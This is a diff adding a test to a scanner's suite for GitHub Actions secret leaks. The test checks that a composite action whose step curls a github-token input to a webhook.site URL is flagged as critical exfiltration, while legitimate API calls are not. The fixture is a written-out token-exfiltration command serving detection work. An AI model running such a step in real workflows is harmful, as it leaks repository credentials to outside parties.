@@ -204,6 +204,19 @@ describe('gha-secrets-exfiltration, gha-overprovisioned-secrets, gha-unredacted-
     expect(only(local, 'gha-secrets-exfiltration')).toEqual([]);
   });
 
+  it('reads an action\'s inputs named like credentials as secrets in its action.yml (what callers pass secrets in), not a workflow\'s inputs', () => {
+    const action = (run: string) =>
+      `name: setup-tool\ninputs:\n  github-token:\n    default: \${{ github.token }}\n  version:\n    default: latest\nruns:\n  using: composite\n  steps:\n    - run: ${run}\n      shell: bash\n`;
+    const exfil = found(action('curl -s -d "t=${{ inputs.github-token }}" https://webhook.site/3f2a'), 'action.yml').filter(([id]) => id === 'gha-secrets-exfiltration');
+    expect(exfil).toEqual([['gha-secrets-exfiltration', 'critical', 10]]);
+    const api = found(action('curl -fsSL -H "Authorization: Bearer ${{ inputs.github-token }}" https://api.github.com/repos/o/r/releases/latest'), 'action.yml');
+    expect(api.filter(([id]) => id === 'gha-secrets-exfiltration')).toEqual([]);
+    const version = found(action('curl -s -d "v=${{ inputs.version }}" https://webhook.site/3f2a'), 'action.yml');
+    expect(version.filter(([id]) => id === 'gha-secrets-exfiltration')).toEqual([]);
+    const dispatch = `on:\n  workflow_dispatch:\n    inputs:\n      token:\n        type: string\n${job('      - run: curl -s -d "t=${{ inputs.token }}" https://webhook.site/3f2a\n')}`;
+    expect(only(dispatch, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+
   it('reports secrets written to a file that an upload-artifact step of the job uploads (the Shai-Hulud shape), not other writes', () => {
     const worm = `on: push\n${job(`      - run: |
           cat <<'EOF' > /tmp/format-results.txt
